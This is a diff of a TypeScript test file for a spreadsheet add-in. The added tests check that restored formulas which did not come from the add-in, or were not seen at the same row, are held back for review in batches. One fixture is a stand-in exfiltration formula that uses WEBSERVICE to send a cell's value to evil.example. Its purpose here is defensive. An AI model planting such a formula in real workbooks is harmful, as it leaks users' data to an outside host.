@@ -1,6 +1,13 @@
 import { describe, expect, it } from "vitest";
 import { Failure } from "../../src/errors";
-import { freezeFormulas, planFreeze, planUnfreeze, unfreezeFormulas } from "../../src/formulas/freeze";
+import {
+  freezeFormulas,
+  planFreeze,
+  planUnfreeze,
+  type SeenFormula,
+  type Unfrozen,
+  unfreezeFormulas,
+} from "../../src/formulas/freeze";
 import { frozenXml, type FrozenFormula, parseFrozenXml } from "../../src/formulas/frozen-formulas";
 import { type CellContents, cellKey, type FormulaCell } from "../../src/sheet/formula-cells";
 import type { Scalar } from "../../src/sheet/cell-value";
@@ -182,12 +189,13 @@ describe("formulas that are brought back into a sheet", () => {
   /** Three frozen formulas, and an Excel that does with each row what is said; it is cancelled once they are there. */
   async function unfreeze(
     excel: (row: number) => string | null,
-    { foreign, isSeen }: { foreign?: string; isSeen?: boolean } = {},
+    { foreign, seen = [], more = 0 }: { foreign?: string; seen?: SeenFormula[]; more?: number } = {},
   ) {
     const stop = new AbortController();
     const shown = contents({ 0: ["a"], 1: ["b"], 2: ["c"] });
     const { formulas } = planFreeze([cell(0), cell(1), cell(2)], shown, new Map());
     if (foreign !== undefined && formulas[1]) formulas[1].formula = foreign;
+    for (let row = 3; row < 3 + more; row += 1) formulas.push({ ...formulas[1]!, row });
     const now = new Map(shown);
     const kept = new Map(
       frozenXml({ atMs: 5, formulas, unreadable: [] }).map((xml, id) => [String(id), xml]),
@@ -221,7 +229,7 @@ describe("formulas that are brought back into a sheet", () => {
         return Promise.resolve(0);
       },
     };
-    const options = { signal: stop.signal, onProgress: () => undefined, namespace: "REGDATA", calls, isSeen };
+    const options = { signal: stop.signal, onProgress: () => undefined, namespace: "REGDATA", calls, seen };
     const rowsOf = (each: readonly { row: number }[]) => each.map(({ row }) => row);
     const remembered = () =>
       rowsOf([...kept.values()].flatMap((xml) => parseFrozenXml(xml, "REGDATA")?.formulas ?? []));
@@ -259,8 +267,31 @@ describe("formulas that are brought back into a sheet", () => {
     });
     expect(entered).not.toContain(foreign);
     expect(remembered).toEqual([1]);
-    const { report: after } = await unfreeze(excel, { foreign, isSeen: true });
+    const { report: after } = await unfreeze(excel, { foreign, seen: [{ ...cell(1), formula: foreign }] });
     expect(after).toMatchObject({ back: [{ row: 0 }, { row: 1 }, { row: 2 }], toBeSeen: [] });
+  });
+
+  it("do not come back where what was seen was another formula, or stood elsewhere", async () => {
+    const foreign = `=WEBSERVICE("https://evil.example/?"&B1)&${formula.slice(1)}`;
+    const seen = [
+      { ...cell(1), formula: foreign.replace("B1", "B2") },
+      { ...cell(0), formula: foreign },
+    ];
+    const { report, remembered } = await unfreeze(() => formula, { foreign, seen });
+    expect(report).toMatchObject({
+      ...{ back: [{ row: 0 }, { row: 2 }], seen, toBeSeenLater: 0 },
+      toBeSeen: [{ row: 1, formula: foreign }],
+    });
+    expect(remembered).toEqual([1]);
+  });
+
+  it("are seen some at a time", async () => {
+    const { report } = await unfreeze(() => formula, { foreign: `=EVIL(${formula.slice(1)})`, more: 250 });
+    expect(report).toMatchObject({ toBeSeenLater: 51 });
+    expect((report as Unfrozen).toBeSeen.map(({ row }) => row)).toEqual([
+      1,
+      ...Array.from({ length: 199 }, (_, index) => index + 3),
+    ]);
   });
 
   it("stay frozen, with Excel's words, where it refuses them all", async () => {
@@ -313,6 +344,19 @@ describe("what the workbook keeps of frozen formulas", () => {
     const deep = `${"[".repeat(200_000)}${"]".repeat(200_000)}`;
     const xml = part({ formulas: ["deep"] }).replace('"deep"', deep);
     expect(parseFrozenXml(xml, "REGDATA")).toBeNull();
+  });
+
+  it("is told from what is none of ours at once, however many quotes stand in it", () => {
+    const quotes = "'".repeat(9_900);
+    const foreign = [`=REGDATA.VALUE(1)${quotes}`, `=[${"['".repeat(4_900)}REGDATA.VALUE(1)`];
+    const many = Array.from({ length: 480 }, (_, row) => ({
+      ...formulas[0]!,
+      row,
+      formula: foreign[row % 2],
+    }));
+    const read = parseFrozenXml(part({ formulas: many }), "REGDATA");
+    expect(read?.formulas.length).toBe(240);
+    expect(read?.unreadable.length).toBe(240);
   });
 
   it("counts for nothing where another version wrote it", () => {
